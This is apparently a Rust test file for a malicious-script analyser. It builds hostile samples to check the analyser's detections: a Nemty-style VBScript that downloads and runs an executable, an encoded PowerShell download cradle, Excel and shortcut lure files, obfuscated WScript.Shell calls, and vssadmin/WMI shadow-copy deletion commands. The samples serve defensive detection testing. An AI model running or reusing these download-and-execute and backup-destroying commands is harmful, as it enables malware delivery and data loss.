//! Scripts and lures built at test time.

mod common;

use common::*;
use mozu_model::{ScriptInfo, Severity};
use mozu_script::{Analysis, Details, analyse_script, decode_vbe};

fn finding<'a>(analysis: &'a Analysis, id: &str) -> Option<&'a mozu_model::Finding> {
    analysis.findings.iter().find(|finding| finding.id == id)
}

fn script_info(analysis: &Analysis) -> &ScriptInfo {
    match &analysis.info {
        Some(Details::Script(info)) => info,
        other => panic!("expected script details, got {other:?}"),
    }
}

/// Seed 002: the Nemty campaign's .vbs fetched an .exe from an IP address
/// (no host name, no User-Agent) and ran it.
const NEMTY_VBS: &str = "Dim objShell, xHttp, bStrm\r\n\
Set xHttp = CreateObject(\"Microsoft.XMLHTTP\")\r\n\
Set bStrm = CreateObject(\"Adodb.Stream\")\r\n\
xHttp.Open \"GET\", \"http://198.51.100.23/nemty.exe\", False\r\n\
xHttp.Send\r\n\
With bStrm\r\n\
\t.Type = 1 '//binary\r\n\
\t.Open\r\n\
\t.write xHttp.responseBody\r\n\
\t.savetofile \"C:\\Users\\Public\\sVDfwl.exe\", 2 '//overwrite\r\n\
End With\r\n\
Set objShell = CreateObject(\"WScript.Shell\")\r\n\
objShell.Run \"C:\\Users\\Public\\sVDfwl.exe\", 0, False\r\n";

const DOWNLOAD_CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')";

#[test]
fn nemty_style_vbs_downloads_and_runs() {
    let analysis = analyse_script(NEMTY_VBS.as_bytes(), "vbs");
    let found = finding(&analysis, "script.download_execute").expect("download_execute");
    assert_eq!(found.severity, Severity::High);
    let info = script_info(&analysis);
    for pattern in ["Microsoft.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".Run"] {
        assert!(
            info.patterns.iter().any(|p| p == pattern),
            "{pattern} missing from {:?}",
            info.patterns
        );
    }
    assert!(analysis.texts[0].contains("http://198.51.100.23/nemty.exe"));
    assert!(finding(&analysis, "script.obfuscation").is_none());
    assert!(analysis.children.is_empty());
}

#[test]
fn js_concatenation_is_seen_through() {
    let js = "var s = new ActiveXObject(\"Wscr\"+\"ipt.Shell\");\r\ns.Run(\"cmd /c calc\", 0);\r\n";
    let analysis = analyse_script(js.as_bytes(), "js");
    assert!(script_info(&analysis).patterns.iter().any(|p| p == "WScript.Shell"));
    let obfuscation = finding(&analysis, "script.obfuscation").expect("obfuscation");
    assert!(
        obfuscation
            .evidence
            .iter()
            .any(|e| e.value.starts_with("WScript.Shell written in pieces")),
        "{obfuscation:?}"
    );
    assert_eq!(
        finding(&analysis, "script.execute").map(|f| f.severity),
        Some(Severity::Medium)
    );
    assert!(analysis.texts.iter().any(|text| text.contains("\"Wscript.Shell\"")));
}

#[test]
fn ps1_and_bat_encoded_commands_become_children() {
    let encoded = encode_command(DOWNLOAD_CRADLE);
    let ps1 = format!("$a = \"-nop -w hidden -enc {encoded}\"\r\nStart-Process powershell -ArgumentList $a\r\n");
    let bat = format!("@echo off\r\np^owershell.exe -NoP -W Hidden -EncodedCommand {encoded}\r\nexit\r\n");
    for (text, language) in [(ps1, "ps1"), (bat, "bat")] {
        let analysis = analyse_script(text.as_bytes(), language);
        assert_eq!(analysis.children.len(), 1, "{language}: {:?}", analysis.warnings);
        assert_eq!(analysis.children[0].name, "powershell-enc-1.ps1");
        assert_eq!(String::from_utf8_lossy(&analysis.children[0].data), DOWNLOAD_CRADLE);
        assert_eq!(script_info(&analysis).decoded_payloads, 1);
        let payload = finding(&analysis, "script.encoded_payload").expect("encoded_payload");
        assert_eq!(payload.severity, Severity::High);
        assert!(
            finding(&analysis, "script.execute").is_some(),
            "{language}: {:?}",
            analysis.findings
        );
        // The caller analyses the child again: one level of decoding here.
        let child = analyse_script(&analysis.children[0].data, "ps1");
        assert!(finding(&child, "script.download_execute").is_some());
    }
}

#[test]
fn vbe_published_samples_decode_exactly() {
    // Microsoft Script Encoder output quoted in public documentation.
    let hello = "#@~^DgAAAA==\\ko$K6,JC\u{7f}V^GJqAQAAA==^#~@";
    assert_eq!(decode_vbe(hello).as_deref(), Some("MsgBox \"Hello\""));
    let world = "#@~^GQAAAA==\\ko$K6,JC\u{7f}V^GPSW.V9J~@#@&JwcAAA==^#~@";
    let decoded = decode_vbe(world).expect("decodes");
    assert_eq!(decoded, "MsgBox \"Hello world\" \r\n");
    // The stored checksum is the sum of the decoded bytes: exactness check.
    assert_eq!(script_checksum(&decoded), "JwcAAA==");
    assert_eq!(script_checksum("MsgBox \"Hello\""), "qAQAAA==");
}

#[test]
fn vbe_encoded_nemty_round_trips_and_is_a_child() {
    let tricky = format!("{NEMTY_VBS}' <tags> @mail 請求書\t\"end\"\r\n");
    let encoded = script_encode(&tricky);
    assert!(!encoded.contains("WScript"));
    assert_eq!(decode_vbe(&encoded).as_deref(), Some(tricky.as_str()));
    let analysis = analyse_script(encoded.as_bytes(), "vbe");
    assert_eq!(analysis.children.len(), 1);
    assert_eq!(analysis.children[0].name, "decoded.vbs");
    assert_eq!(analysis.children[0].data, tricky.as_bytes());
    assert!(finding(&analysis, "script.encoded_payload").is_some());
    let child = analyse_script(&analysis.children[0].data, "vbs");
    assert!(finding(&child, "script.download_execute").is_some());
    let wsf = format!(
        "<job><script language=\"JScript.Encode\">{}</script></job>",
        script_encode("WScript.Echo(1);")
    );
    let analysis = analyse_script(wsf.as_bytes(), "wsf");
    assert_eq!(analysis.children[0].name, "decoded.wsf");
    assert!(String::from_utf8_lossy(&analysis.children[0].data).contains(">WScript.Echo(1);</script>"));
}

#[test]
fn lures() {
    let iqy = analyse_script(b"WEB\r\n1\r\nhttp://203.0.113.7/x.dat\r\n", "iqy");
    assert_eq!(
        finding(&iqy, "script.iqy_web_query").map(|f| f.severity),
        Some(Severity::High)
    );
    assert!(iqy.texts.iter().any(|t| t == "http://203.0.113.7/x.dat"));
    let slk = analyse_script(b"ID;P\r\nC;X1;Y1;K0;E=EXEC(\"cmd\")\r\nE\r\n", "slk");
    let exec = finding(&slk, "script.slk_exec").expect("slk_exec");
    assert_eq!(exec.evidence[0].value, "=EXEC(\"cmd\")");
    let url = analyse_script(b"[InternetShortcut]\r\nURL=file://203.0.113.5/share/a.exe\r\n", "url");
    let shortcut = finding(&url, "script.url_shortcut").expect("url_shortcut");
    assert_eq!(shortcut.severity, Severity::High);
    assert!(url.texts.iter().any(|t| t == "file://203.0.113.5/share/a.exe"));
}

#[test]
fn shadow_copy_deletion_is_critical() {
    // Seed 002: Nemty removed shadow copies through PowerShell and WMI.
    let ps1 = "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}";
    let analysis = analyse_script(ps1.as_bytes(), "ps1");
    assert_eq!(
        finding(&analysis, "script.shadow_copy_delete").map(|f| f.severity),
        Some(Severity::Critical)
    );
    let bat = analyse_script(
        b"v^ssadmin Delete Shadows /All /Quiet\r\nw^mic shadowcopy delete\r\n",
        "cmd",
    );
    let found = finding(&bat, "script.shadow_copy_delete").expect("shadow_copy_delete");
    assert_eq!(found.evidence.len(), 2);
}

#[test]
fn base64_pe_blob_is_a_child() {
    let pe = build_pe(false, 0x5800_0000, 0x0102);
    let blob = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &pe);
    let (head, tail) = blob.split_at(100);
    let js = format!("var b = \"{head}\" +\n \"{tail}\";\nvar s = WScript.CreateObject(\"ADODB.Stream\");");
    let analysis = analyse_script(js.as_bytes(), "js");
    assert_eq!(analysis.children.len(), 1);
    assert_eq!(analysis.children[0].name, "base64-1.exe");
    assert_eq!(analysis.children[0].data, pe);
    let obfuscation = finding(&analysis, "script.obfuscation").expect("long base64");
    assert!(
        obfuscation
            .evidence
            .iter()
            .any(|e| e.value.starts_with("base64 run of"))
    );
}

#[test]
fn chr_density_and_utf16_scripts() {
    let chars: Vec<String> = "powershell -nop -w hidden"
        .bytes()
        .map(|b| format!("Chr({b})"))
        .collect();
    let vbs = format!("x = {}\r\nCreateObject(\"WScript.Shell\").Run x\r\n", chars.join(" & "));
    let analysis = analyse_script(vbs.as_bytes(), "vbs");
    assert!(finding(&analysis, "script.obfuscation").is_some());
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(NEMTY_VBS.encode_utf16().flat_map(u16::to_le_bytes));
    assert!(finding(&analyse_script(&utf16, "vbs"), "script.download_execute").is_some());
}
